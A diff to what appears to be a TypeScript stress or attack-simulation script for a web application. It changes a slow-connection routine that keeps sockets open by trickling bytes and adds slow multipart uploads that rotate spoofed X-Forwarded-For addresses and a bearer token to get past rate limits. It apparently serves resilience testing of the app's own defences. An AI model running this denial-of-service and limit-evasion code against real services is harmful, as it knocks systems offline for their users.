@@ -107,14 +107,14 @@ async function repeat(name: string, attack: () => Promise<{ status: number }>): 
 }
 
 /** Opens a connection, sends a byte now and then, and opens another one when it is closed. */
-async function beSlow(head: string, everyMs: number): Promise<void> {
+async function beSlow(head: () => string, everyMs: number): Promise<void> {
   const { hostname, port } = new URL(origin)
   while (!isOver.signal.aborted) {
     const socket = connect({ port: Number(port), host: hostname })
     const closed = new Promise<void>(resolve => socket.once('close', () => resolve()))
     socket.on('error', () => undefined)
     socket.resume()
-    socket.write(head)
+    socket.write(head())
     const timer = setInterval(() => socket.write('x'), everyMs)
     const end = () => socket.destroy()
     isOver.signal.addEventListener('abort', end)
@@ -125,11 +125,23 @@ async function beSlow(head: string, everyMs: number): Promise<void> {
   }
 }
 
-const start = `host: ${new URL(origin).host}\r\nx-forwarded-for: 172.31.0.1\r\n`
+/** Half of the slow uploads use an account, the others have a new address each time. */
+function uploadHead(): string {
+  const { token, from } = attacker()
+  const who =
+    Math.random() < 0.5
+      ? `authorization: Bearer ${token}\r\nx-forwarded-for: ${from}`
+      : `x-forwarded-for: ${anyAddress()}`
+  return `POST /api/images HTTP/1.1\r\nhost: ${host}\r\n${who}\r\ncontent-type: multipart/form-data; boundary=b\r\ncontent-length: 9000000\r\n\r\n--b\r\ncontent-disposition: form-data; name="image"; filename="x"\r\n\r\n${'x'.repeat(1_000_000)}`
+}
+
+const { host } = new URL(origin)
+const start = `host: ${host}\r\nx-forwarded-for: 172.31.0.1\r\n`
 const heads = {
-  request: `GET / HTTP/1.1\r\n${start}x: `,
-  body: `POST /api/account/forgot-password HTTP/1.1\r\n${start}content-type: application/json\r\ncontent-length: 16000\r\n\r\n`,
-  upload: `POST /api/images HTTP/1.1\r\n${start}content-type: multipart/form-data; boundary=b\r\ncontent-length: 9000000\r\n\r\n--b\r\ncontent-disposition: form-data; name="image"; filename="x"\r\n\r\n${'x'.repeat(1_000_000)}`,
+  request: () => `GET / HTTP/1.1\r\n${start}x: `,
+  body: () =>
+    `POST /api/account/forgot-password HTTP/1.1\r\n${start}content-type: application/json\r\ncontent-length: 16000\r\n\r\n`,
+  upload: uploadHead,
 }
 
 await Promise.all([
